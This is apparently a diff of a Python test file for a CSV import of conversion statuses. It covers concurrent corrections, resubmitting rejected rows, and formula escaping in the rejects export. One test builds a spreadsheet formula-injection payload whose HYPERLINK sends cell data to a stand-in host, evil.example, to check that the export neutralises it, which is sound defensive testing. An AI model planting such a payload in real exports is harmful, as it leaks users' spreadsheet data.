+    content = sheet(*((a_conversion(sandbox), "Rejected", "") for _ in range(5)))
+    digest = preview(sandbox, content).digest
 
     async def both() -> list[Preview | BaseException]:
         now = datetime.now(UTC)
         return await asyncio.gather(
-            *(corrections.apply(place.tenant, content.encode(), digest, now) for _ in range(2)), return_exceptions=True
+            *(corrections.apply(sandbox.tenant, content.encode(), digest, now) for _ in range(2)),
+            return_exceptions=True,
         )
 
-    outcomes = run_at(place.tenant.slug, both)
+    outcomes = run_at(sandbox.tenant.slug, both)
     assert sorted(type(one).__name__ for one in outcomes) == ["ChangedSince", "Preview"]
-    assert revenue(place) == 0
+    assert revenue(sandbox) == 0
 
 
 # The rows that could not be used
 
 
-def test_the_rejects_can_be_mended_and_sent_again(place: Place) -> None:
-    first, second = a_conversion(place), a_conversion(place)
+def test_the_rejects_can_be_mended_and_sent_again(sandbox: Sandbox) -> None:
+    first, second = a_conversion(sandbox), a_conversion(sandbox)
     content = (
         f"\ufeffStatus;ConversionId;Rejection Reason\r\nRejekted;{first};-1; \r\n"
         f'Done;{second};"two ""lines"";\r\nof it"\r\nSuccess;7;\r\n'
     )
-    rejects = preview(place, content).rejects_csv()
+    rejects = preview(sandbox, content).rejects_csv()
     assert rejects.startswith(b"\xef\xbb\xbfRow;Status;ConversionId;RejectionReason;Problem\r\n2;Rejekted;")
     table = list(csv.reader(io.StringIO(rejects.decode("utf-8-sig"), newline=""), delimiter=";"))
     assert [row[0] for row in table] == ["Row", "2", "3", "4"]
     assert table[1][3:] == ["'-1", "Status: “Rejekted” should be Pending, Success or Rejected"]
     mended = rejects.replace(b"Rejekted", b"Rejected").replace(b"Done", b"Rejected")
-    done = apply(place, mended)
+    done = apply(sandbox, mended)
     assert len(done.bad) == 1
-    assert state(place, first) == ("Rejected", "-1")
-    assert state(place, second) == ("Rejected", 'two "lines";\r\nof it')
+    assert state(sandbox, first) == ("Rejected", "-1")
+    assert state(sandbox, second) == ("Rejected", 'two "lines";\r\nof it')
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n="])
-def test_no_cell_of_the_rejects_is_a_formula(module_place: Place, start: str) -> None:
+def test_no_cell_of_the_rejects_is_a_formula(module_sandbox: Sandbox, start: str) -> None:
     bomb = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
     content = sheet((bomb, bomb, bomb), (uuid4(), "Rejected", bomb))
-    rejects = preview(module_place, content).rejects_csv().decode("utf-8-sig")
+    rejects = preview(module_sandbox, content).rejects_csv().decode("utf-8-sig")
     table = list(csv.reader(io.StringIO(rejects, newline="")))
     assert [row[1:4].count(f"'{bomb}") for row in table] == [0, 3, 1]
     assert not [cell for row in table for cell in row if cell.startswith(tuple("=+-@\t\r\n"))]
